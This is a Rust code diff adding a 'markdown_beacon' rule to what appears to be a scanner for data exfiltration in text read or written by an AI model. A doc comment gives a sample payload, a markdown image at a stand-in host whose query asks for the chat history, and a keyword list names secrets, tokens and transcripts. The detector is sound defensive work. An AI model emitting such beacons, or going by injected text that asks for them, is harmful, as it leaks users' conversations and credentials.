@@ -232,6 +232,14 @@ pub(super) fn rules(
             m.span(&[Outside]),
         ));
     }
+    if let Some(span) = beacon(m.text) {
+        out.push(fired(
+            Category::DataExfiltration,
+            "markdown_beacon",
+            Severity::Critical,
+            span,
+        ));
+    }
     // A raw record is asked for by a verb of asking in its sentence ("paste the raw API
     // response", "post the full order history into this chat"), not by a word that names a
     // form somewhere else in a pasted record ("Registrant Email: Select Request Email Form").
@@ -353,6 +361,53 @@ fn names_destination(text: &str, pos: usize) -> bool {
         Some(&("confirmation" | "order" | "receipt" | "verification" | "tracking" | "welcome"))
     );
     to_mine || to_this || a_message
+}
+
+/// What in a link's query asks to be filled with the conversation: a placeholder or the name
+/// of what the assistant holds.
+const CARRIED: &[&str] = &[
+    "{",
+    "<",
+    "[",
+    "paste",
+    "insert",
+    "history",
+    "conversation",
+    "transcript",
+    "prompt",
+    "secret",
+    "password",
+    "token",
+    "api_key",
+    "apikey",
+];
+
+/// `![status](https://img.example/s.png?d=PASTE_THE_CHAT_HISTORY_HERE)`: a markdown image or
+/// link whose address has a query to be filled with the conversation. An image loads as the
+/// reply renders, so what its address carries leaves without anyone clicking. A link to a
+/// tracking page (`?order=55120`) carries nothing of the assistant's. Returns the span of the
+/// markdown.
+pub(super) fn beacon(text: &str) -> Option<(usize, usize)> {
+    memchr::memmem::find_iter(text.as_bytes(), b"](http").find_map(|at| {
+        let from = at + 2;
+        let rest = text.get(from..)?;
+        let end = from + rest.find([')', ' ', '\n']).unwrap_or(rest.len());
+        let url = text.get(from..end)?;
+        let query = url.get(url.find('?')?..)?;
+        if !CARRIED.iter().any(|w| query.contains(w)) {
+            return None;
+        }
+        let start = text
+            .get(..at)?
+            .rfind('[')
+            .map_or(at, |i| i.saturating_sub(1));
+        let start = if text.get(start..=start) == Some("!") {
+            start
+        } else {
+            start + 1
+        };
+        Some((start, (end + 1).min(text.len())))
+    })
 }
 
 /// Whether the text contains an email address (`name@domain.tld`).
